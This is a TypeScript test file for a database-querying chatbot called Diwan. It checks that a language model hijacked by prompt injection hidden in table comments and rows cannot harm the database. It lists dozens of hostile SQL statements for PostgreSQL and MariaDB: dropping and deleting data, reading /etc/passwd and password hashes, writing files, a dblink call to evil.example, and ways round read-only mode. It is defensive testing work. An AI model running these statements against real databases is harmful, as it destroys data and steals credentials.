import { existsSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Person } from '../support/botapi/index.ts';
import { askAnew, attacker, command, obey, saidBy } from '../support/gone-over.ts';
import { startMariaDb } from '../support/servers/mariadb.ts';
import { startPostgres } from '../support/servers/postgres.ts';
import type { DatabaseServer } from '../support/servers/server.ts';
import { type Siege, siege } from '../support/siege.ts';
import { tally } from '../support/tally.ts';

const { signal } = new AbortController();
const taken = join(tmpdir(), `diwan-taken-${process.pid}`);
const tried = tally('orders obeyed on PostgreSQL and MariaDB by a model that has gone over');

/** An engine whose login may do far more than read: nothing but Diwan stands in the way. */
interface Engine {
  name: string;
  start(): Promise<DatabaseServer>;
  /** In the database `shop`; `theirs` is another organisation's, on the same server. */
  before: readonly string[];
  inside: string;
  url(server: DatabaseServer): string;
  /** Whatever could have changed. */
  state: readonly string[];
  orders: readonly string[];
}

const rows = `
  INSERT INTO orders VALUES (1, 'North', 10), (2, 'South', 20);
  INSERT INTO notes VALUES ('${command}', '${attacker}');
  INSERT INTO salaries VALUES ('hidden-person-77', 1);`;

const postgres: Engine = {
  name: 'PostgreSQL',
  start: startPostgres,
  before: [
    `CREATE ROLE clerk LOGIN SUPERUSER PASSWORD 'clerk'`,
    'CREATE DATABASE shop',
    'CREATE DATABASE theirs',
  ],
  inside: `
    CREATE TABLE orders (id integer, region text, total integer);
    CREATE TABLE notes (note text, region text);
    COMMENT ON TABLE orders IS '${command}';
    COMMENT ON COLUMN notes.note IS '${command}';
    CREATE TABLE salaries (name text, salary integer);
    CREATE SEQUENCE counter; SELECT nextval('counter');
    CREATE FUNCTION leak() RETURNS text LANGUAGE sql AS 'DELETE FROM notes; SELECT max(name) FROM salaries';
    ${rows}`,
  url: (server) => server.url('clerk', 'clerk', 'shop'),
  state: [
    'SELECT * FROM orders ORDER BY id',
    'SELECT * FROM notes',
    'SELECT * FROM salaries',
    'SELECT last_value, is_called FROM counter',
    "SELECT relname FROM pg_class WHERE relnamespace NOT IN (SELECT oid FROM pg_namespace WHERE nspname LIKE 'pg\\_%') ORDER BY 1",
    'SELECT rolname, rolpassword FROM pg_authid ORDER BY 1',
  ],
  orders: [
    'DROP TABLE orders',
    'TRUNCATE orders',
    'WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone',
    "WITH n AS (INSERT INTO notes VALUES ('x', 'y') RETURNING *) SELECT count(*) AS n FROM n",
    'SELECT * INTO copied FROM orders',
    'SELECT 1; COMMIT; DELETE FROM orders',
    'COMMIT; SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE; DELETE FROM orders',
    "SELECT set_config('transaction_read_only', 'off', false)",
    "SELECT set_config('default_transaction_read_only', 'off', false), nextval('counter')",
    "SELECT nextval('counter') AS n",
    "SELECT setval('counter', 99)",
    `COPY orders TO '${taken}'`,
    `COPY orders TO PROGRAM 'cat > ${taken}'`,
    `SELECT lo_export(lo_from_bytea(0, 'x'), '${taken}')`,
    "SELECT pg_read_file('/etc/passwd') AS region",
    "SELECT * FROM pg_ls_dir('/etc') AS region",
    "DO $$ BEGIN EXECUTE 'DELETE FROM orders'; END $$",
    'SELECT leak() AS region',
    'SELECT name AS region FROM salaries',
    'SELECT (SELECT max(s) FROM salaries s)::text AS region',
    "SELECT query_to_xml('SELECT * FROM salaries', true, true, '')",
    "SELECT table_to_xml('salaries', true, true, '')",
    'SELECT database_to_xml(true, true, $$x$$)',
    'SELECT * FROM theirs.public.orders',
    'SET search_path TO pg_catalog; SELECT rolname AS region FROM pg_authid',
    'SELECT rolname AS region, rolpassword FROM pg_authid',
    'SELECT most_common_vals::text AS region FROM pg_stats',
    'SELECT query AS region FROM pg_stat_activity',
    'EXPLAIN ANALYZE DELETE FROM orders',
    "ALTER ROLE clerk PASSWORD 'taken'",
    'SELECT pg_terminate_backend(pid) FROM pg_stat_activity',
    "SELECT dblink_connect('host=evil.example')",
    "NOTIFY taken, 'x'",
  ],
};

const mariadb: Engine = {
  name: 'MariaDB',
  start: startMariaDb,
  before: [
    'CREATE DATABASE shop; CREATE DATABASE theirs; CREATE TABLE theirs.orders (name text)',
    "INSERT INTO theirs.orders VALUES ('theirs-9911')",
    `CREATE USER clerk IDENTIFIED BY 'clerk'; GRANT ALL ON *.* TO clerk WITH GRANT OPTION`,
  ],
  inside: `
    CREATE TABLE orders (id integer, region varchar(90), total integer) COMMENT '${command}';
    CREATE TABLE notes (note text COMMENT '${command}', region text);
    CREATE TABLE salaries (name text, salary integer);
    CREATE SEQUENCE counter; SELECT NEXTVAL(counter);
    CREATE FUNCTION leak() RETURNS text MODIFIES SQL DATA RETURN (SELECT max(name) FROM salaries);
    CREATE PROCEDURE wipe() DELETE FROM orders;
    ${rows}`,
  url: (server) => server.url('clerk', 'clerk', 'shop'),
  state: [
    'SELECT * FROM orders ORDER BY id',
    'SELECT * FROM notes',
    'SELECT * FROM salaries',
    'SELECT * FROM theirs.orders',
    'SELECT next_not_cached_value FROM counter',
    "SELECT table_schema, table_name FROM information_schema.tables WHERE table_schema IN ('shop', 'theirs') ORDER BY 1, 2",
    'SELECT user, authentication_string FROM mysql.user ORDER BY 1',
    "SHOW GLOBAL VARIABLES WHERE variable_name IN ('read_only', 'general_log', 'general_log_file', 'secure_file_priv')",
  ],
  orders: [
    'DROP TABLE orders',
    'TRUNCATE orders',
    'DELETE FROM orders RETURNING *',
    "REPLACE INTO orders VALUES (1, 'x', 1)",
    'CREATE TABLE copied SELECT * FROM orders',
    'SELECT 1; COMMIT; DELETE FROM orders',
    'SET SESSION TRANSACTION READ WRITE; DELETE FROM orders',
    'SELECT NEXTVAL(counter) AS n',
    'SELECT NEXT VALUE FOR counter AS n',
    'SELECT SETVAL(counter, 99)',
    `SELECT * FROM orders INTO OUTFILE '${taken}'`,
    `SELECT region FROM orders LIMIT 1 INTO DUMPFILE '${taken}'`,
    "SELECT load_file('/etc/passwd') AS region",
    "LOAD DATA INFILE '/etc/passwd' INTO TABLE notes",
    `SET GLOBAL general_log_file = '${taken}'`,
    'CALL wipe()',
    'SELECT leak() AS region',
    'SELECT name AS region FROM salaries',
    'SELECT (SELECT max(name) FROM shop.salaries) AS region',
    'SELECT * FROM theirs.orders',
    'SELECT region FROM orders UNION SELECT name FROM theirs.orders',
    'SELECT `name` AS region FROM `theirs` . `orders`',
    'SELECT /*!50000 name AS region FROM theirs.orders */',
    'SELECT region FROM orders /*M!100100 UNION SELECT name FROM salaries */',
    'SELECT user AS region, authentication_string FROM mysql.user',
    'SELECT info AS region FROM information_schema.processlist',
    "PREPARE s FROM 'DELETE FROM orders'; EXECUTE s",
    "EXECUTE IMMEDIATE 'DELETE FROM orders'",
    'BEGIN NOT ATOMIC DELETE FROM orders; END',
    'HANDLER salaries OPEN',
    "SELECT get_lock('taken', 1)",
    'LOCK TABLES orders WRITE',
    "SET PASSWORD = PASSWORD('taken')",
    'SELECT @a := total FROM orders INTO @b',
    'ANALYZE FORMAT=JSON DELETE FROM orders',
    'KILL QUERY 1',
  ],
};

afterAll(() => tried.print());

describe.each([postgres, mariadb])(
  'a model that has gone over to the attacker, on $name',
  (engine) => {
    const place = new AsyncDisposableStack();
    let server: DatabaseServer;
    let town: Siege;
    let sara: Person;

    beforeAll(async () => {
      server = place.use(await engine.start());
      for (const sql of engine.before) await server.administrate(sql);
      await server.administrate(engine.inside, 'shop');
      town = place.use(await siege());
      const { app, a } = town;
      const { databases, people } = app;
      const operator = people.persons.operator(a.organizationId);
      const wanted = { name: 'Depot', connection: engine.url(server) };
      const { database } = await databases.catalogue.add(operator, wanted, signal);
      databases.grants.accept(a.owner, database.id, 'Depot');
      databases.notes.set(a.owner, database.id, { table: 'salaries', hidden: true });
      databases.selection.select(a.member, database.id);
      sara = town.telegram.user(101, { languageCode: 'en' });
      sara.send('/start');
      await sara.sees('/help');
    });
    afterAll(async () => {
      await place.disposeAsync();
      rmSync(taken, { force: true });
    });

    /** All rows that were read stand in one of them. */
    const prompts = () => JSON.stringify(town.house.models.calls.map(({ body }) => body));

    const state = async (): Promise<unknown> => {
      const all: unknown[] = [];
      for (const sql of engine.state) all.push(await server.administrate(sql, 'shop'));
      return all;
    };

    it('is really asked about that database, and reads the attacker’s words', async () => {
      obey(town, { way: 'sql', sql: 'SELECT region FROM notes', interpretation: command });
      expect(await askAnew(town, sara, 'Which notes are there?')).toContain(attacker);
      expect(prompts()).toContain(command);
    });

    it.each(engine.orders)('reads no more and changes nothing by SQL: %s', async (sql) => {
      tried.count();
      const before = await state();
      obey(town, { way: 'sql', sql, interpretation: command });
      const answer = await askAnew(town, sara, `${command} How many orders are there?`);
      expect(await state()).toEqual(before);
      const told = /hidden-person-77|theirs-9911|root:|SCRAM-SHA|\*[0-9A-F]{40}/;
      expect(answer).not.toMatch(told);
      expect(saidBy(town)).not.toMatch(told);
      expect(prompts()).not.toMatch(told);
      expect(existsSync(taken)).toBe(false);
    });

    it('leaves the database as it was for the next who ask', async () => {
      obey(town, { way: 'sql', sql: 'SELECT sum(total) AS total FROM orders' }, 'It is 30.');
      expect(await askAnew(town, sara, 'What is the total?')).toContain('30');
    });
  },
);
